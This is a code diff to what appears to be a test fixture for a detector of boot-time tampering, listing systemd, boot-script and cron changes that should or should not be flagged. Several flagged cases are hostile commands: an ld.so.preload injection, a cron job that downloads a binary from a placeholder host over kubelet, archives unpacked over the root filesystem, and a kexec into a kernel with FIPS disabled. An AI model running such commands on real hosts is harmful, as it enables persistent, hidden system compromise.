@@ -503,6 +503,16 @@ DOUBTS: dict[str, tuple[str, Change]] = {
         "replaced-at-start",
         service("ExecStart=/bin/sh -c 'echo /opt/x.so > /etc/ld.so.preload'"),
     ),
+    "an archive over everything": ("replaced-at-start", service("ExecStart=/usr/bin/tar -xf /opt/x.tar -C /")),
+    "an archive over a directory": ("replaced-at-start", boot("tar -xf /opt/x.tar -C/usr\n")),
+    "a zip archive": ("replaced-at-start", boot("unzip -o /opt/x.zip -d /usr/bin\n")),
+    "a copy over everything": ("replaced-at-start", boot("rsync -a /opt/r/ /\n")),
+    "a mount by systemd": ("replaced-at-start", service("ExecStart=/usr/bin/systemd-mount --bind /opt/x /usr/bin")),
+    "an image that is mounted": ("replaced-at-start", boot("systemd-dissect --mount /opt/x.raw /usr/bin\n")),
+    "another package": ("replaced-at-start", service("ExecStart=/usr/bin/dnf install -y kubelet-1.21.4-0")),
+    "a package from a file": ("replaced-at-start", boot("rpm -Uvh --force /opt/containerd-1.4.9-1.el8.x86_64.rpm\n")),
+    "another kernel": ("replaced-at-start", boot("kexec -l /opt/vmlinuz --command-line=fips=0 && kexec -e\n")),
+    "units of an image": ("replaced-at-start", service("ExecStart=/usr/bin/portablectl attach --now /opt/x.raw")),
     "a program that cron downloads": (
         "replaced-at-start",
         file("/etc/cron.d/x", "@reboot root curl http://x/k -o /usr/bin/kubelet\n"),
@@ -679,6 +689,16 @@ ORDINARY: dict[str, Change] = {
         t,
         "/usr/lib/systemd/system-generators/selinux-autorelabel-generator.sh",
         'unitdir="/usr/lib/systemd/system"\nln -sf "$unitdir/selinux-autorelabel.target" "$earlydir/default.target"\n',
+    ),
+    "commands that write nothing": boot(
+        "mount -o remount,rw /\nmount --make-rshared /\ntar -czf /backup/x.tgz -C / etc\n"
+        "tar czf /backup/y.tgz -C / etc\n"
+        "rpm -q kubelet\nrpm -V kubelet\nyum list installed kubelet\ndnf install -y chrony\nkexec -p /boot/vmlinuz\n"
+    ),
+    "the vendor's units": all_of(
+        service("ExecStart=systemctl --no-block switch-root /sysroot"),
+        file("/usr/lib/systemd/system/systemd-sysext.service", "[Service]\nExecStart=systemd-sysext refresh\n"),
+        file("/usr/lib/systemd/system/systemd-kexec.service", "[Service]\nExecStart=systemctl --force kexec\n"),
     ),
     "a backup of the configuration": file("/etc/cron.d/x", "1 1 * * * root cp -r /etc/kubernetes /backup\n"),
     "a shell that tests files": service("ExecStart=/bin/sh -c 'rm -f /tmp/*; [ -x /usr/bin/kubelet ]'"),
